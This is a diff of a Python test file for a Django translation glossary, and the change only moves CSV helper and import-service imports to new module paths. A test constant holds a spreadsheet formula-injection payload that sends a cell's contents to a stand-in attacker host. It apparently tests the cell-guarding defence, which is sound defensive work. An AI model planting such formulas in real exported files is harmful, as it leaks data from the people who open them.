@@ -7,10 +7,10 @@ import io
 import pytest
 from django.urls import reverse
 
-from translations.exchange import ConceptData, TermData, csv_dump, csv_load
-from translations.exchange.csvfile import csv_cell_guard, csv_cell_unguard
+from translations.glossary.files import ConceptData, TermData, csv_dump, csv_load
+from translations.glossary.files.csvfile import csv_cell_guard, csv_cell_unguard
+from translations.glossary.services import glossary_import
 from translations.models import Concept
-from translations.services.glossary import glossary_import
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
